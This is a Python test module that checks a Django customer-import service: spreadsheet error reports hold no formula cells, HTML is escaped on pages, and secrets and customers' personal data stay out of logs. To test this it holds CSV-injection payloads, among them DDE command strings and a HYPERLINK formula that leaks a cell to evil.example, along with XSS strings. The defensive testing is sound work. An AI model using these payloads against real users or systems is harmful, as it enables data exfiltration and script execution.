"""What the service gives back is safe to open, to show and to keep.

- The error report a hostile sheet produces (xlsx and CSV, as downloaded from the API)
  holds no cell a spreadsheet would run as a formula.
- Names, file names and cell values with HTML in them are shown as text on the import
  pages: escaped by the templates, and set with textContent by the page's script
  (checked in a real browser).
- No secret reaches a log: not the Twilio auth token, not a JWT or a password, not
  SECRET_KEY. Checked on every logger in-process (caplog), in a task worker's output
  while it sends texts through a Twilio stub, and in gunicorn's own log.
- No customer's phone number or email address reaches a log line at INFO or above,
  whole, as typed or in E.164, through a whole import: sign in, upload a sheet with
  valid and invalid phones and emails, validate, import, text the new customers
  (console backend), download the error report, search the customer list. Checked
  in-process, in the task worker's output and in gunicorn's log.
"""

import base64
import csv
import io
import logging
import time
import zipfile
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from rest_framework.test import APIClient
from rest_framework_simplejwt.tokens import AccessToken, RefreshToken

from primepre.logging import JsonFormatter
from tests.api.test_frontend_http import ApiServer, multipart, start_server, stop_server
from tests.conftest import PASSWORD
from tests.hostile.conftest import sheet_row, uploaded
from tests.imports.factories import customer_rows
from tests.imports.spreadsheets import HEADER, write_csv, write_xlsx
from tests.sms.stub import TwilioStub, invalid_number, server_error
from tests.workers import run_worker_until_idle, worker_database_url
from users.imports.jobs import import_job_run
from users.imports.report import FORMULA_PREFIXES
from users.imports.services import import_job_create, import_job_create_from_payload
from users.models import Customer, ImportJob, ImportStatus, SmsMessage, SmsStatus, User

if TYPE_CHECKING:
    from playwright.sync_api import Page

# What attackers put in cells (OWASP "CSV injection"): formulas, DDE, and the other characters Excel starts one with.
INJECTIONS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def import_in_process(job: ImportJob) -> ImportJob:
    import_job_run(job_id=job.id)
    job.refresh_from_db()
    return job


def dangerous_sheet(folder: Path) -> Path:
    """Rows whose every cell is an injection; each row fails (the phone cell holds a formula), so all are reported."""
    rows = [HEADER]
    for n, payload in enumerate(INJECTIONS):
        rows.append((f"PM{n} {payload}", payload, f"{payload} Mensah", payload, payload, payload))
    rows.append(sheet_row(1))  # one good row, so the import is not refused as a whole
    return write_xlsx(folder / "injected.xlsx", rows)


def looks_like_a_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_PREFIXES)


@pytest.fixture
def injected_job(admin_user: User, tmp_path: Path) -> ImportJob:
    job = import_in_process(import_job_create(user=admin_user, uploaded_file=uploaded(dangerous_sheet(tmp_path))))
    assert (job.status, job.failed_count, job.created_count) == (ImportStatus.COMPLETE, len(INJECTIONS), 1)
    return job


@pytest.mark.django_db
def test_the_csv_error_report_of_a_hostile_sheet_has_no_cell_a_spreadsheet_would_run(
    admin_client: APIClient, injected_job: ImportJob
) -> None:
    response = admin_client.get(f"/api/imports/{injected_job.id}/errors.csv")
    assert response.status_code == 200
    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))

    assert len(lines) == 1 + len(INJECTIONS), "every rejected row is in the report"
    dangerous = [cell for line in lines for cell in line if looks_like_a_formula(cell)]
    assert dangerous == [], f"cells Excel would evaluate: {dangerous}"
    first_names = {line[1] for line in lines[1:]}
    assert "'=cmd|' /C calc'!A0" in first_names, "the value is kept, as text, behind an apostrophe"


@pytest.mark.django_db
def test_the_xlsx_error_report_of_a_hostile_sheet_holds_only_text_cells(
    admin_client: APIClient, injected_job: ImportJob
) -> None:
    from openpyxl import load_workbook

    response = admin_client.get(f"/api/imports/{injected_job.id}/errors.xlsx")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets), "no formula element at all"
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]

    assert len({cell.row for cell in cells}) == len(INJECTIONS)
    assert {cell.data_type for cell in cells} == {"s"}, "every cell is a string cell"
    dangerous = [cell.value for cell in cells if looks_like_a_formula(str(cell.value))]
    assert dangerous == [], f"cells Excel would evaluate: {dangerous}"


# --- HTML on the pages --------------------------------------------------------------------------------------------

SCRIPT = "<script>window.__xss = 'script'</script>"
IMG = "<img src=x onerror=window.__xss=1>"  # 34 characters: a valid first name, as far as the importer cares
ESCAPED_IMG = "&lt;img src=x onerror=window.__xss=1&gt;"


@pytest.fixture
def html_job(admin_user: User, tmp_path: Path) -> ImportJob:
    """A completed import whose file name, customer names, unknown column and rejected values are all HTML."""
    rows = [
        (*HEADER, SCRIPT),
        ("PM1 HTML", IMG, "<b>Mensah</b>", "kwame@example.com", "0241234567", "Volta", "x"),
        ("PM2 HTML", "Ama", "Owusu", "ama@example.com", IMG, "Volta", "x"),
    ]
    path = write_csv(tmp_path / "list.csv", rows)
    upload = uploaded(path)
    upload.name = f"{IMG}.csv"
    job = import_in_process(import_job_create(user=admin_user, uploaded_file=upload))
    assert (job.status, job.created_count, job.failed_count) == (ImportStatus.COMPLETE, 1, 1)
    assert job.original_filename == f"{IMG}.csv" and SCRIPT in job.unknown_columns
    return job


@pytest.mark.django_db
@pytest.mark.parametrize("where", ["history", "job", "customers"])
def test_html_in_file_names_and_cells_is_escaped_on_the_pages(
    client: Client, admin_user: User, html_job: ImportJob, where: str
) -> None:
    client.force_login(admin_user)
    path = {
        "history": "/imports/history/",
        "job": f"/imports/{html_job.id}/",
        "customers": f"/imports/{html_job.id}/customers/",
    }[where]
    response = client.get(path)
    assert response.status_code == 200
    html = response.content.decode()

    assert IMG not in html and "<b>Mensah</b>" not in html and SCRIPT not in html, (
        "raw HTML from a sheet reached the page"
    )
    assert ESCAPED_IMG in html, "the value is shown, escaped"


@pytest.mark.browser
@pytest.mark.slow
def test_html_in_rejected_rows_is_shown_as_text_by_the_pages_script(
    validated_html_job: ImportJob, signed_in_page: "Page"
) -> None:
    shown = signed_in_page
    shown.goto(f"/imports/{validated_html_job.id}/")
    errors = shown.locator("#preview-errors")
    errors.wait_for(state="visible")

    assert shown.evaluate("typeof window.__xss") == "undefined", "a value from the sheet ran as script"
    assert errors.locator("img, b, script").count() == 0, "a value from the sheet became markup"
    assert IMG in errors.inner_text(), "the problem quotes the value as the sheet had it"
    assert shown.get_by_label("Row 2, Phone Number").input_value() == IMG, "the cell to correct holds it as typed"
    columns = shown.locator("#columns-panel")
    assert columns.locator("img, b, script").count() == 0 and SCRIPT in columns.inner_text(), "an unknown header too"


@pytest.fixture
def validated_html_job(admin_user: User, tmp_path: Path) -> ImportJob:
    """A dry run (VALIDATED, as the page's preview shows it) of a sheet full of HTML."""
    rows = [(*HEADER, SCRIPT), *[("PM1 HTML", "Ama", "Owusu", "ama@example.com", IMG, "Volta", "x")]]
    upload = uploaded(write_csv(tmp_path / "list.csv", rows))
    upload.name = f"{IMG}.csv"
    job = import_in_process(import_job_create(user=admin_user, uploaded_file=upload, dry_run=True))
    assert job.status == ImportStatus.VALIDATED and job.failed_count == 1
    return job


# --- secrets in logs ----------------------------------------------------------------------------------------------

SECRET_KEY = "hostile-suite-secret-key-9f3c1a7e5b-d41d8cd98f00b204e9800998ecf8427e"
TWILIO_SID = "AC" + "feedface" * 4
TWILIO_TOKEN = "hostile-twilio-token-5d1e9b"
OTHER_TOKEN = "hostile-wrong-twilio-token-77c2"
FROM_NUMBER = "+15005550006"


def forbidden_strings(*secrets: str) -> dict[str, str]:
    """Each secret, and the forms it would take in a log: basic-auth and JWT pieces."""
    forms: dict[str, str] = {}
    for secret in secrets:
        forms[secret] = secret
        if secret.count(".") == 2:  # a JWT: its signature alone is enough to replay nothing, but shows a leak
            forms[f"signature of {secret[:12]}…"] = secret.rsplit(".", 1)[1]
    return forms


def leaks(text: str, forbidden: dict[str, str]) -> list[str]:
    return [name for name, value in forbidden.items() if value and value in text]


@pytest.fixture
def every_log(caplog: pytest.LogCaptureFixture) -> Iterator[pytest.LogCaptureFixture]:
    """caplog on every logger at DEBUG, including the ones LOGGING stops from propagating to the root."""
    quiet = [name for name, logger in logging.root.manager.loggerDict.items() if isinstance(logger, logging.Logger)]
    isolated = [logging.getLogger(name) for name in quiet if not logging.getLogger(name).propagate]
    levels = {logger: logger.level for logger in isolated}
    for logger in isolated:
        logger.addHandler(caplog.handler)
        logger.setLevel(logging.DEBUG)
    caplog.set_level(logging.DEBUG)
    try:
        yield caplog
    finally:
        for logger in isolated:
            logger.removeHandler(caplog.handler)
            logger.setLevel(levels[logger])


def everything_logged(caplog: pytest.LogCaptureFixture) -> str:
    """Every captured record as text and as the JSON formatter writes it, extras included."""
    text = logging.Formatter("%(name)s %(levelname)s %(message)s")
    json_formatter = JsonFormatter()
    return "\n".join(f"{text.format(r)}\n{json_formatter.format(r)}" for r in caplog.records)


@pytest.mark.django_db
def test_no_password_token_or_secret_key_reaches_any_log_in_process(
    every_log: pytest.LogCaptureFixture, admin_user: User, plain_user: User, settings: Any, tmp_path: Path
) -> None:
    settings.SECRET_KEY = SECRET_KEY
    client = APIClient()
    signed_in = client.post("/api/auth/login/", {"phone": "0241000001", "password": PASSWORD}, format="json").json()
    access, refresh = signed_in["tokens"]["access"], signed_in["tokens"]["refresh"]
    expired = AccessToken.for_user(admin_user)
    expired.set_exp(lifetime=-timedelta(minutes=1))
    forged = str(RefreshToken.for_user(admin_user).access_token)[:-4] + "AAAA"
    plain_access = str(RefreshToken.for_user(plain_user).access_token)

    client.post("/api/auth/login/", {"phone": "0241000001", "password": "wrong-" + PASSWORD}, format="json")
    client.post("/api/auth/token/refresh/", {"refresh": refresh}, format="json")
    client.post("/api/auth/token/refresh/", {"refresh": access}, format="json")  # an access token as refresh: 401
    for token in (access, str(expired), forged, plain_access):
        client.credentials(HTTP_AUTHORIZATION=f"Bearer {token}")
        client.get("/api/auth/profile/")
        client.get("/api/imports/")
        client.post("/api/auth/customers/excel/bulk-create/", {"customers": [{"shipping_mark": "x"}]}, format="json")
        client.post("/api/imports/", {"file": uploaded(write_csv(tmp_path / "c.csv", [HEADER, sheet_row(1)]))})

    logged = everything_logged(every_log)
    assert "Login refused" in logged and "Unauthorized" in logged, "the requests above were logged at all"
    forbidden = forbidden_strings(PASSWORD, "wrong-" + PASSWORD, access, refresh, str(expired), forged, plain_access)
    forbidden["SECRET_KEY"] = SECRET_KEY
    assert leaks(logged, forbidden) == []


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("credentials", ["right", "wrong"])
def test_the_task_worker_never_logs_the_twilio_token_or_secret_key_while_texting(
    admin_user: User, credentials: str
) -> None:
    stub = TwilioStub(account_sid=TWILIO_SID, auth_token=TWILIO_TOKEN).start()
    try:
        customers = customer_rows(4)  # phones +233240000001 … +233240000004
        stub.script("+233240000001", server_error(), server_error())  # retried, then sent
        stub.script("+233240000002", invalid_number("+233240000002"))  # a permanent failure, logged
        job = import_job_create_from_payload(user=admin_user, customers=customers, send_sms=True)
        token = TWILIO_TOKEN if credentials == "right" else OTHER_TOKEN
        run = run_worker_until_idle(
            timeout=120,
            extra_env={
                "SECRET_KEY": SECRET_KEY,
                "LOG_LEVEL": "DEBUG",
                "TWILIO_ACCOUNT_SID": TWILIO_SID,
                "TWILIO_AUTH_TOKEN": token,
                "TWILIO_PHONE_NUMBER": FROM_NUMBER,
                "SMS_BACKEND": "twilio",
                "TWILIO_API_BASE_URL": stub.url,
                "SMS_BASE_DELAY": "0.01",
                "SMS_MAX_DELAY": "0.05",
                "SMS_MESSAGES_PER_SECOND": "1000",
            },
        )
    finally:
        stub.stop()

    job.refresh_from_db()
    assert job.status == ImportStatus.COMPLETE and job.created_count == 4
    assert {request.password for request in stub.received} == {token}, "the worker did use the token"
    statuses = set(SmsMessage.objects.filter(import_job=job).values_list("status", flat=True))
    assert statuses == ({SmsStatus.SENT, SmsStatus.FAILED} if credentials == "right" else {SmsStatus.FAILED})
    basic = base64.b64encode(f"{TWILIO_SID}:{token}".encode()).decode()
    forbidden = {"TWILIO_AUTH_TOKEN": token, "basic auth header": basic, "SECRET_KEY": SECRET_KEY}
    assert leaks(run.output, forbidden) == [], "a secret is in the worker's log"
    assert "[SMS-SEND]" in run.output or "[SMS-FAIL]" in run.output, "the texting was logged at all"


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_gunicorn_logs_no_password_token_or_secret_key_even_at_debug(admin_user: User, tmp_path: Path) -> None:
    server = start_server(
        database_url=worker_database_url(),
        media_root=tmp_path / "media",
        extra_env={"SECRET_KEY": SECRET_KEY, "LOG_LEVEL": "DEBUG", "LOG_FORMAT": "json"},
    )
    try:
        client = server.client()
        body = client.login()
        access, refresh = body["tokens"]["access"], body["tokens"]["refresh"]
        client.get("/api/auth/profile/")
        client.post("/api/auth/token/refresh/", json_body={"refresh": refresh})
        client.post("/api/auth/login/", json_body={"phone": "0241000001", "password": "wrong-" + PASSWORD})
        client.token = access[:-4] + "AAAA"
        client.get("/api/imports/")
        output = server.output()
    finally:
        stop_server(server)

    assert "/api/auth/profile/" in output, "gunicorn's access log was captured"
    forbidden = forbidden_strings(PASSWORD, "wrong-" + PASSWORD, access, refresh, access[:-4] + "AAAA")
    forbidden["SECRET_KEY"] = SECRET_KEY
    assert leaks(output, forbidden) == []
    assert Customer.objects.count() == 0


# --- personal data in logs ----------------------------------------------------------------------------------------

# The admin signs in with their phone number; it is personal data too.
ADMIN_PHONE_FORMS = ("0241000001", "+233241000001", "233241000001", "024 100 0001")
EXISTING = {"phone": "+233209876543", "email": "yaa.asantewaa@example.org"}
# A sheet as admins send them: good rows, and every way a phone or an email ends up in a rejection.
PERSONAL_ROWS = [
    HEADER,
    ("PM1 ABENA", "Abena", "Mensah", "abena.mensah@example.com", "024 412 3456", "Ashanti"),
    ("PM2 KOJO", "Kojo", "Asante", "kojo.asante@example.net", "+233 20 555 1234", "Volta"),
    ("PM3 YAW", "Yaw", "Boateng", "yaw.boateng@example.com", "0244 12 34", "Central"),  # phone too short
    ("PM4 ESI", "Esi", "Owusu", "esi.owusu@@example.com", "0277123456", "Eastern"),  # email invalid
    ("PM5 KWESI", "Kwesi", "Appiah", "kwesi.appiah@example.com", "0209998877", "0551237788"),  # phone as region
    ("PM6 AKUA", "Akua", "Darko", "akua.darko@example.com", "0244123456", "Ashanti"),  # row 2's phone again
    ("PM7 YAA", "Yaa", "Asantewaa", "YAA.ASANTEWAA@example.org", "0501112233", "Western"),  # an existing customer
]
# E.164 of each phone in the sheet, as the database keeps it (and Twilio would be sent it).
PERSONAL_E164 = ("+233244123456", "+233205551234", "+233277123456", "+233209998877", "+233551237788", "+233501112233")
# The upload's own name carries an address, as "forwarded from ..." files do.
PERSONAL_FILENAME = "customers from abena.mensah@example.com.csv"
# The React frontend's JSON bulk create, with the sheet's bad phone and email.
FRONTEND_ROW = {
    "shipping_mark": "PM9 X",
    "first_name": "A",
    "last_name": "B",
    "phone": "0244 12 34",
    "email": "esi.owusu@@example.com",
    "region": "Volta",
}


def personal_data_forms() -> dict[str, str]:
    """Every form a customer's phone or email could take in a log: as typed, E.164, digits only, national."""
    forms: dict[str, str] = {}
    for row in PERSONAL_ROWS[1:]:
        email, phone, region = row[3], row[4], row[5]
        if email:
            forms[email] = email
            forms[f"local part of {email}"] = email.split("@")[0]
        for typed in (phone, region if region[0].isdigit() else ""):
            if typed:
                forms[typed] = typed
                forms[f"digits of {typed}"] = "".join(c for c in typed if c.isdigit())
    for e164 in (*PERSONAL_E164, EXISTING["phone"]):
        forms[e164] = e164
        forms[f"{e164} without +"] = e164[1:]
        forms[f"{e164} national"] = "0" + e164[4:]
    forms[EXISTING["email"]] = EXISTING["email"]
    for phone in ADMIN_PHONE_FORMS:
        forms[f"the admin's {phone}"] = phone
    return forms


def logged_at_info_or_above(caplog: pytest.LogCaptureFixture) -> str:
    text = logging.Formatter("%(name)s %(levelname)s %(message)s")
    json_formatter = JsonFormatter()
    records = [r for r in caplog.records if r.levelno >= logging.INFO]
    return "\n".join(f"{text.format(r)}\n{json_formatter.format(r)}" for r in records)


def wait_for_output(server: ApiServer, text: str, *, timeout: float = 10.0) -> str:
    """gunicorn's log once `text` is in it: the access line is written after the response is sent."""
    deadline = time.monotonic() + timeout
    while text not in (output := server.output()) and time.monotonic() < deadline:
        time.sleep(0.1)
    return output


def personal_sheet(folder: Path) -> bytes:
    return write_csv(folder / "personal.csv", PERSONAL_ROWS).read_bytes()


@pytest.mark.django_db
def test_no_customers_phone_or_email_reaches_any_log_in_a_whole_import_in_process(
    every_log: pytest.LogCaptureFixture, admin_user: User, settings: Any, tmp_path: Path
) -> None:
    from users.sms.services import sms_send_for_import

    settings.SMS_BACKEND = "console"
    Customer.objects.create(
        shipping_mark="PM0 OLD", first_name="Yaa", last_name="Asantewaa", region="WESTERN", **EXISTING
    )
    client = APIClient()
    client.post("/api/auth/login/", {"phone": "024 100 0001", "password": "wrong-" + PASSWORD}, format="json")
    signed_in = client.post("/api/auth/login/", {"phone": "024 100 0001", "password": PASSWORD}, format="json")
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {signed_in.json()['tokens']['access']}")
    web = Client()
    web.post("/accounts/login/", {"username": "+233241000001", "password": PASSWORD})

    upload = SimpleUploadedFile(PERSONAL_FILENAME, personal_sheet(tmp_path), content_type="text/csv")
    created = client.post("/api/imports/", {"file": upload, "dry_run": "true", "send_sms": "true"})
    assert created.status_code == 202, created.content
    job_id = created.json()["id"]
    import_job_run(job_id=job_id)
    assert client.post(f"/api/imports/{job_id}/commit/").status_code == 202
    import_job_run(job_id=job_id)
    sms = sms_send_for_import(job_id=job_id)
    reports = [client.get(f"/api/imports/{job_id}/errors.{kind}") for kind in ("csv", "xlsx")]
    for report in reports:
        b"".join(report.streaming_content)
    client.get("/api/auth/admin/users/", {"user_role": "CUSTOMER", "search": "0244123456"})
    client.post("/api/auth/customers/excel/bulk-create/", {"customers": [FRONTEND_ROW]}, format="json")

    job = ImportJob.objects.get(id=job_id)
    assert (job.status, job.created_count, job.failed_count + job.skipped_count) == (ImportStatus.COMPLETE, 2, 5)
    assert sms.sent == 2 and all(report.status_code == 200 for report in reports)
    logged = logged_at_info_or_above(every_log)
    assert "[BULK-CREATE-FAIL]" in logged and "SMS (console backend" in logged, "the flow was logged at all"
    assert "+23324•••3456" in logged, "a masked number still tells ops which customer a line is about"
    assert leaks(logged, personal_data_forms()) == []


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_no_customers_phone_or_email_reaches_the_task_workers_or_gunicorns_log(
    admin_user: User, tmp_path: Path
) -> None:
    Customer.objects.create(
        shipping_mark="PM0 OLD", first_name="Yaa", last_name="Asantewaa", region="WESTERN", **EXISTING
    )
    worker_env = {"SMS_BACKEND": "console", "LOG_LEVEL": "INFO"}
    server = start_server(
        database_url=worker_database_url(),
        media_root=tmp_path / "media",
        extra_env={"LOG_LEVEL": "INFO", "LOG_FORMAT": "json"},
    )
    try:
        client = server.client()
        client.post("/api/auth/login/", json_body={"phone": "024 100 0001", "password": "wrong-" + PASSWORD})
        client.login(phone="024 100 0001")
        body, content_type = multipart(
            {"dry_run": "true", "send_sms": "true"}, {"file": (PERSONAL_FILENAME, personal_sheet(tmp_path), "text/csv")}
        )
        created = client.post("/api/imports/", body=body, content_type=content_type)
        job_id = created.json()["id"]
        validating = run_worker_until_idle(timeout=120, extra_env={**worker_env, "MEDIA_ROOT": str(server.media_root)})
        committed = client.post(f"/api/imports/{job_id}/commit/")
        importing = run_worker_until_idle(timeout=120, extra_env={**worker_env, "MEDIA_ROOT": str(server.media_root)})
        report = client.get(f"/api/imports/{job_id}/errors.csv")
        client.get("/api/auth/admin/users/?user_role=CUSTOMER&search=0244123456&email=abena.mensah%40example.com")
        output = wait_for_output(server, "/api/auth/admin/users/")
    finally:
        stop_server(server)

    job = ImportJob.objects.get(id=job_id)
    assert created.status == 202 and committed.status == 202 and report.status == 200
    assert (job.status, job.created_count) == (ImportStatus.COMPLETE, 2)
    assert "/api/auth/admin/users/" in output and "SMS (console backend" in importing.output, "all was logged"
    forms = personal_data_forms()
    assert leaks(output, forms) == [], "gunicorn's log (access log included) names a customer"
    assert leaks(validating.output + importing.output, forms) == [], "the task worker's log names a customer"
